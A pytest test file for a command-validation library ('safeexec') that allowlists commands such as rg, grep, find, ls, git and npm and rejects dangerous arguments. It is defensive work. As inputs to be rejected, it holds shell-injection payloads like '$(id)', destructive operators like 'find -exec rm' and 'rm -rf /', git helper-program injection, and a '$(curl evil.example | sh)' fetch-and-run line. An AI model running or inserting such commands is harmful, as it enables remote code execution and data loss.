"""Tests for SecurityPolicy, argument classification and content rules."""

from __future__ import annotations

import re

import pytest

from safeexec._types import AllowedCommand, ArgumentRole, ErrorCategory, FailureKind, Invalid, Valid
from safeexec.errors import SecurityViolation
from safeexec.security.classifier import GRAMMARS, classify, path_operands
from safeexec.security.commands import DEFAULT_COMMAND_POLICIES, RIPGREP_POLICY, CommandPolicy
from safeexec.security.policy import SecurityPolicy
from safeexec.security.rules import PATTERN_PERMISSIVE, STRICT, scan

P = ArgumentRole.PATH
PAT = ArgumentRole.PATTERN
F = ArgumentRole.FLAG
FV = ArgumentRole.FLAG_VALUE
S = ArgumentRole.STRUCTURAL

SUBSTITUTION_PAYLOADS = [
    "a\x00b",
    "foo\nbar",
    "foo\rbar",
    "`id`",
    "$(id)",
    "${HOME}",
    "$'\\x41'",
    "a;b",
    "a&&b",
    "a>out",
    "<in",
]


class TestRuleSets:
    """Tests for the STRICT and PATTERN_PERMISSIVE rule sets."""

    @pytest.mark.parametrize("payload", SUBSTITUTION_PAYLOADS)
    def test_both_sets_reject_substitution(self, payload: str) -> None:
        """Substitution primitives should be rejected by both rule sets."""
        assert scan(payload, STRICT) is not None
        assert scan(payload, PATTERN_PERMISSIVE) is not None

    @pytest.mark.parametrize(
        "pattern",
        ["(foo|bar)", "^def\\s+main$", "[a-z]{2,}", "*.{ts,tsx}", "foo.*?bar", "\\d+", "a|b"],
    )
    def test_permissive_allows_regex_punctuation(self, pattern: str) -> None:
        """Regex and glob punctuation should pass the permissive set."""
        assert scan(pattern, PATTERN_PERMISSIVE) is None

    @pytest.mark.parametrize("arg", ["a|b", "a||b", "a&b", "$HOME", "\\x41", "\\101", "\\u0041"])
    def test_strict_rejects_shell_punctuation(self, arg: str) -> None:
        """Strict should reject pipes, background, variables and escapes."""
        assert scan(arg, STRICT) is not None

    @pytest.mark.parametrize("arg", ["src/main.py", "app/(auth)/[id].tsx", "*.py", "my file.txt", "-7", "+7"])
    def test_strict_allows_ordinary_paths(self, arg: str) -> None:
        """Strict should accept ordinary paths and signed integers."""
        assert scan(arg, STRICT) is None

    def test_leading_dash_only_rejected_in_positional_slots(self) -> None:
        """A leading dash is expected in a flag slot but not a positional one."""
        assert scan("-rf", STRICT, positional=False) is None
        rule = scan("-rf", STRICT, positional=True)
        assert rule is not None
        assert "leading dash" in rule.description.lower()

    def test_rules_are_compiled(self) -> None:
        """All rules should carry compiled patterns and descriptions."""
        for rule_set in (STRICT, PATTERN_PERMISSIVE):
            for rule in rule_set.rules:
                assert isinstance(rule.pattern, re.Pattern)
                assert rule.description

    def test_permissive_is_subset_of_strict(self) -> None:
        """Permissiveness never adds a rule that strict lacks."""
        assert set(PATTERN_PERMISSIVE.rules) <= set(STRICT.rules)


class TestClassifier:
    """Tests for position-aware argument classification."""

    def classify(self, command: AllowedCommand, args: list[str]) -> tuple[ArgumentRole, ...]:
        return classify(command, args, DEFAULT_COMMAND_POLICIES[command])

    def test_searcher_first_positional_is_pattern(self) -> None:
        """The first positional token should be the pattern, the rest paths."""
        roles = self.classify(AllowedCommand.RIPGREP, ["-n", "foo", "src", "lib"])
        assert roles == (F, PAT, P, P)

    def test_searcher_glob_value_is_pattern(self) -> None:
        """Glob-valued flags should mark their value as a pattern."""
        roles = self.classify(AllowedCommand.RIPGREP, ["-g", "*.{ts,tsx}", "foo"])
        assert roles == (F, PAT, PAT)

    def test_searcher_value_flag_consumes_value(self) -> None:
        """Other value flags consume their value as a flag value."""
        roles = self.classify(AllowedCommand.RIPGREP, ["-A", "3", "foo"])
        assert roles == (F, FV, PAT)

    def test_searcher_explicit_pattern_makes_positionals_paths(self) -> None:
        """With -e, every positional token should be a path."""
        roles = self.classify(AllowedCommand.RIPGREP, ["-e", "foo", "src"])
        assert roles == (F, PAT, P)

    def test_searcher_file_listing_has_no_pattern(self) -> None:
        """rg --files takes paths only."""
        roles = self.classify(AllowedCommand.RIPGREP, ["--files", "src"])
        assert roles == (F, P)

    def test_searcher_end_of_flags(self) -> None:
        """The token after -- should be the pattern even if it starts with a dash."""
        roles = self.classify(AllowedCommand.GREP, ["-n", "--", "-foo", "src"])
        assert roles == (F, F, PAT, P)

    def test_searcher_inline_glob_is_pattern(self) -> None:
        """An inline --include=glob token should be scanned as a pattern."""
        roles = self.classify(AllowedCommand.GREP, ["--include=*.py", "-r", "foo", "."])
        assert roles == (PAT, F, PAT, P)

    def test_locator_roles(self) -> None:
        """find operands and grouping tokens should get their own roles."""
        roles = self.classify(
            AllowedCommand.FIND, [".", "(", "-name", "*.py", "-o", "-type", "f", ")"]
        )
        assert roles == (P, S, F, PAT, S, F, FV, S)

    def test_generic_roles(self) -> None:
        """ls flags and paths."""
        roles = self.classify(AllowedCommand.LS, ["-la", "src"])
        assert roles == (F, P)

    def test_generic_end_of_flags(self) -> None:
        """Everything after -- is positional."""
        roles = self.classify(AllowedCommand.LS, ["--", "-la"])
        assert roles == (F, P)

    def test_classification_does_not_mutate_input(self) -> None:
        """The argument vector should be left untouched."""
        args = ["-n", "foo", "src"]
        self.classify(AllowedCommand.RIPGREP, args)
        assert args == ["-n", "foo", "src"]

    def test_every_command_has_a_grammar(self) -> None:
        """Dispatch should cover every allowlisted command."""
        assert set(GRAMMARS) == set(AllowedCommand)

    @pytest.mark.parametrize("command", [AllowedCommand.LS, AllowedCommand.GREP])
    def test_bare_color_consumes_nothing(self, command: AllowedCommand) -> None:
        """GNU --color only takes an attached value; the next token stays positional."""
        roles = self.classify(command, ["--color", "foo", "src"])
        assert roles[:2] == (F, P if command is AllowedCommand.LS else PAT)
        assert roles[2] == P

    def test_inline_color_value(self) -> None:
        """--color=WHEN is a single flag token."""
        roles = self.classify(AllowedCommand.LS, ["--color=never", "src"])
        assert roles == (F, P)


class TestPathOperands:
    """Tests for locating the arguments a command opens as local paths."""

    def operands(self, command: AllowedCommand, args: list[str]) -> tuple[int, ...]:
        return path_operands(command, args, DEFAULT_COMMAND_POLICIES[command])

    def test_filesystem_commands_use_path_roles(self) -> None:
        """Every path-role token except stdin is an operand."""
        assert self.operands(AllowedCommand.LS, ["-l", "--color", "src", "-"]) == (2,)
        assert self.operands(AllowedCommand.GREP, ["-r", "--color", "foo", "src"]) == (3,)
        assert self.operands(AllowedCommand.FIND, [".", "-name", "*.py"]) == (0,)
        assert self.operands(AllowedCommand.RIPGREP, ["--files", "src", "lib"]) == (1, 2)

    def test_git_directory_flag(self) -> None:
        """The value of a global -C is a path; -C after the subcommand is not."""
        assert self.operands(AllowedCommand.GIT, ["-C", "sub", "log", "-C", "HEAD"]) == (1,)

    def test_git_clone_destination(self) -> None:
        """The operand after the repository of clone is a path."""
        args = ["clone", "--depth", "1", "https://example.com/repo.git", "dest"]
        assert self.operands(AllowedCommand.GIT, args) == (4,)
        assert self.operands(AllowedCommand.GIT, ["clone", "https://example.com/repo.git"]) == ()

    def test_git_refs_and_npm_packages_are_not_paths(self) -> None:
        """Refs, pathspecs and package names are left alone."""
        assert self.operands(AllowedCommand.GIT, ["log", "-n", "5", "main", "--", "src"]) == ()
        assert self.operands(AllowedCommand.NPM, ["view", "react"]) == ()


class TestCommandPolicy:
    """Tests for the static per-command tables."""

    def test_pattern_flags_must_take_values(self) -> None:
        """pattern_value_flags outside value_flags is a configuration error."""
        with pytest.raises(ValueError):
            CommandPolicy(pattern_value_flags=frozenset({"-g"}))

    def test_flag_name_inline_value(self) -> None:
        """--name=value and attached short values resolve to the flag name."""
        assert RIPGREP_POLICY.flag_name("--glob=*.py") == "--glob"
        assert RIPGREP_POLICY.flag_name("-A3") == "-A"
        assert RIPGREP_POLICY.flag_name("-n") == "-n"

    def test_symlink_following_flags_absent(self) -> None:
        """Flags that follow symlinks during traversal are not allowlisted."""
        assert not RIPGREP_POLICY.accepts_flag("-L")
        assert not RIPGREP_POLICY.accepts_flag("--follow")
        assert not DEFAULT_COMMAND_POLICIES[AllowedCommand.GREP].accepts_flag("-R")
        assert not DEFAULT_COMMAND_POLICIES[AllowedCommand.FIND].accepts_flag("-L")

    def test_inline_value_flags_cannot_consume(self) -> None:
        """A flag cannot be both inline-only and next-token valued."""
        with pytest.raises(ValueError):
            CommandPolicy(value_flags=frozenset({"--color"}), inline_value_flags=frozenset({"--color"}))

    def test_directory_flags_must_take_values(self) -> None:
        """directory_flags outside value_flags is a configuration error."""
        with pytest.raises(ValueError):
            CommandPolicy(directory_flags=frozenset({"-C"}))

    def test_optional_value_flags(self) -> None:
        """Optional-value long options accept only the attached form."""
        ls = DEFAULT_COMMAND_POLICIES[AllowedCommand.LS]
        git = DEFAULT_COMMAND_POLICIES[AllowedCommand.GIT]
        assert ls.accepts_flag("--color")
        assert ls.accepts_flag("--color=never")
        assert not ls.takes_value("--color")
        assert not DEFAULT_COMMAND_POLICIES[AllowedCommand.GREP].takes_value("--colour")
        assert git.accepts_flag("--pretty=oneline")
        assert git.accepts_flag("--format=%H")
        assert not git.accepts_flag("--format")

    def test_tables_are_read_only(self) -> None:
        """The default table cannot be modified."""
        with pytest.raises(TypeError):
            DEFAULT_COMMAND_POLICIES[AllowedCommand.LS] = CommandPolicy()  # type: ignore[index]


class TestSecurityPolicy:
    """Tests for SecurityPolicy.validate."""

    def test_allows_pattern_with_regex_punctuation(self, standard_policy: SecurityPolicy) -> None:
        """Balanced regex punctuation should pass in a pattern position."""
        outcome = standard_policy.validate("rg", ["-n", "(foo|bar)", "src"])
        assert outcome == Valid(AllowedCommand.RIPGREP, ("-n", "(foo|bar)", "src"))

    def test_same_string_rejected_in_path_position(self, standard_policy: SecurityPolicy) -> None:
        """The identical string should fail as a path."""
        outcome = standard_policy.validate("rg", ["-n", "foo", "(foo|bar)"])
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DANGEROUS_CONTENT

    @pytest.mark.parametrize("command", [c.value for c in AllowedCommand])
    def test_null_byte_rejected_for_every_command(self, standard_policy: SecurityPolicy, command: str) -> None:
        """A null byte anywhere should always be rejected."""
        assert not standard_policy.validate(command, ["x\x00y"]).is_valid
        assert not standard_policy.validate(command, ["--version", "x\x00y"]).is_valid

    @pytest.mark.parametrize("command", ["rm", "bash", "sh", "/bin/ls", "cat", "", None, 42])
    def test_unknown_command_rejected(self, standard_policy: SecurityPolicy, command: object) -> None:
        """Commands outside the allowlist are a policy violation."""
        outcome = standard_policy.validate(command, [])
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.UNKNOWN_COMMAND
        assert outcome.kind.category is ErrorCategory.POLICY_VIOLATION

    @pytest.mark.parametrize(
        "args",
        [
            ["-delete"],
            [".", "-name", "*.tmp", "-delete"],
            [".", "-name", "-delete"],
            [".", "-exec", "rm", "{}", "+"],
            [".", "-execdir", "sh"],
            [".", "-fprintf", "out", "%p"],
            [".", "-ok", "rm"],
            [".", "-ls"],
        ],
    )
    def test_find_operators_rejected_anywhere(self, standard_policy: SecurityPolicy, args: list[str]) -> None:
        """Destructive find operators are rejected regardless of role."""
        outcome = standard_policy.validate("find", args)
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DISALLOWED_OPERATOR

    def test_find_expression_allowed(self, standard_policy: SecurityPolicy) -> None:
        """A read-only find expression should pass."""
        args = ["src", "(", "-name", "*.py", "-o", "-name", "*.{md,txt}", ")", "-type", "f", "-mtime", "-7"]
        assert standard_policy.validate("find", args).is_valid

    def test_find_pattern_substitution_rejected(self, standard_policy: SecurityPolicy) -> None:
        """Permissive patterns still reject command substitution."""
        outcome = standard_policy.validate("find", [".", "-name", "$(whoami)"])
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DANGEROUS_CONTENT

    @pytest.mark.parametrize(
        ("command", "args"),
        [
            ("rg", ["--pre", "cat", "foo"]),
            ("rg", ["-L", "foo"]),
            ("rg", ["--pre=cat", "foo"]),
            ("grep", ["-R", "foo", "."]),
            ("grep", ["-rX", "foo", "."]),
            ("grep", ["-f", "patterns.txt", "."]),
            ("ls", ["--hide-control-chars-please"]),
        ],
    )
    def test_unknown_flags_rejected(self, standard_policy: SecurityPolicy, command: str, args: list[str]) -> None:
        """Flags are closed-world: anything unlisted is rejected."""
        outcome = standard_policy.validate(command, args)
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DISALLOWED_FLAG

    @pytest.mark.parametrize(
        ("command", "args"),
        [
            ("grep", ["-rn", "foo", "."]),
            ("grep", ["--include=*.py", "-r", "foo", "."]),
            ("rg", ["-A3", "-i", "foo"]),
            ("rg", ["--max-count=5", "foo", "src"]),
            ("rg", ["-e", "(a|b)", "src"]),
            ("rg", ["--files", "src"]),
            ("ls", ["-la", "src"]),
            ("rg", []),
        ],
    )
    def test_valid_invocations(self, standard_policy: SecurityPolicy, command: str, args: list[str]) -> None:
        """Common read-only invocations should pass."""
        assert standard_policy.validate(command, args).is_valid

    def test_explicit_pattern_makes_positional_strict(self, standard_policy: SecurityPolicy) -> None:
        """With -e, a pipe in a positional token is a path and rejected."""
        assert not standard_policy.validate("rg", ["-e", "foo", "a|b"]).is_valid

    def test_flag_smuggled_after_end_of_flags(self, standard_policy: SecurityPolicy) -> None:
        """A dash token in a positional slot is rejected."""
        outcome = standard_policy.validate("ls", ["--", "-la"])
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DANGEROUS_CONTENT

    def test_git_subcommands(self, standard_policy: SecurityPolicy) -> None:
        """git runs only read-only subcommands."""
        assert standard_policy.validate("git", ["log", "--oneline", "-n", "5"]).is_valid
        assert standard_policy.validate(
            "git", ["clone", "--depth", "1", "https://github.com/octo/repo.git", "repo"]
        ).is_valid
        outcome = standard_policy.validate("git", ["push", "origin"])
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DISALLOWED_SUBCOMMAND

    @pytest.mark.parametrize(
        "args",
        [["-c", "core.pager=sh", "log"], ["clone", "--upload-pack=evil", "url"], ["--exec-path=/tmp", "log"]],
    )
    def test_git_operators_rejected(self, standard_policy: SecurityPolicy, args: list[str]) -> None:
        """git configuration and helper-program options are never allowed."""
        outcome = standard_policy.validate("git", args)
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DISALLOWED_OPERATOR

    def test_npm_subcommands(self, standard_policy: SecurityPolicy) -> None:
        """npm is limited to metadata lookups."""
        assert standard_policy.validate("npm", ["view", "react", "--json"]).is_valid
        outcome = standard_policy.validate("npm", ["install", "left-pad"])
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DISALLOWED_SUBCOMMAND

    @pytest.mark.parametrize("args", [None, "ls -la", b"-la", 42, ["-la", 1], [None]])
    def test_malformed_arguments(self, standard_policy: SecurityPolicy, args: object) -> None:
        """Wrong argument types are reported, never raised."""
        outcome = standard_policy.validate("ls", args)
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.MALFORMED_ARGUMENTS

    def test_overlong_argument_rejected(self, standard_policy: SecurityPolicy) -> None:
        """Arguments over the length cap are rejected."""
        outcome = standard_policy.validate("rg", ["a" * 5000])
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.DANGEROUS_CONTENT

    def test_reason_does_not_echo_payload(self, standard_policy: SecurityPolicy) -> None:
        """Rejected content should not appear in the reason."""
        outcome = standard_policy.validate("find", [".", "-name", "$(curl evil.example | sh)"])
        assert isinstance(outcome, Invalid)
        assert "curl" not in outcome.reason
        assert "injection" in outcome.reason.lower()

    def test_check_order(self, standard_policy: SecurityPolicy) -> None:
        """Checks run command, operator, flag, then content."""
        assert standard_policy.validate("rm", None).kind is FailureKind.UNKNOWN_COMMAND  # type: ignore[union-attr]
        assert standard_policy.validate("find", ["-bogus", "-delete"]).kind is FailureKind.DISALLOWED_OPERATOR  # type: ignore[union-attr]
        assert standard_policy.validate("rg", ["--pre", "$(x)"]).kind is FailureKind.DISALLOWED_FLAG  # type: ignore[union-attr]

    def test_validation_is_idempotent(self, standard_policy: SecurityPolicy) -> None:
        """Identical input yields identical outcomes."""
        for args in (["-n", "(foo|bar)", "src"], ["-n", "foo", "a;b"]):
            assert standard_policy.validate("rg", args) == standard_policy.validate("rg", args)

    def test_accepts_enum_member(self, standard_policy: SecurityPolicy) -> None:
        """AllowedCommand members are accepted as the command."""
        outcome = standard_policy.validate(AllowedCommand.LS, ["-l"])
        assert isinstance(outcome, Valid)
        assert outcome.argv == ["ls", "-l"]

    def test_check_command_raises(self, standard_policy: SecurityPolicy) -> None:
        """check_command should raise SecurityViolation on rejection."""
        with pytest.raises(SecurityViolation) as exc_info:
            standard_policy.check_command("rm", ["-rf", "/"])
        assert exc_info.value.kind is FailureKind.UNKNOWN_COMMAND
        assert "not allowed" in str(exc_info.value)

    def test_check_command_returns_valid(self, standard_policy: SecurityPolicy) -> None:
        """check_command returns the validated invocation."""
        valid = standard_policy.check_command("grep", ["-rn", "TODO", "."])
        assert valid.command is AllowedCommand.GREP
        assert valid.args == ("-rn", "TODO", ".")


class TestRestrictedPolicy:
    """Tests for SecurityPolicy.restricted."""

    def test_blocks_unlisted_commands(self, restricted_policy: SecurityPolicy) -> None:
        """Commands outside the subset are rejected."""
        outcome = restricted_policy.validate("ls", ["-la"])
        assert isinstance(outcome, Invalid)
        assert outcome.kind is FailureKind.UNKNOWN_COMMAND
        assert "grep, rg" in outcome.reason

    def test_allows_listed_commands(self, restricted_policy: SecurityPolicy) -> None:
        """Commands in the subset keep their default tables."""
        assert restricted_policy.validate("rg", ["-n", "foo"]).is_valid
        assert restricted_policy.allowed_commands == {AllowedCommand.RIPGREP, AllowedCommand.GREP}

    def test_rejects_names_outside_allowlist(self) -> None:
        """Only allowlisted commands can be selected."""
        with pytest.raises(ValueError):
            SecurityPolicy.restricted({"cat"})


class TestFailureKind:
    """Tests for the failure taxonomy."""

    def test_only_limits_are_retryable(self) -> None:
        """Timeouts and output limits are the only retryable failures."""
        retryable = {kind for kind in FailureKind if kind.retryable}
        assert retryable == {FailureKind.TIMEOUT, FailureKind.OUTPUT_LIMIT}

    def test_every_kind_has_a_category(self) -> None:
        """Every kind maps onto the coarse taxonomy."""
        for kind in FailureKind:
            assert isinstance(kind.category, ErrorCategory)
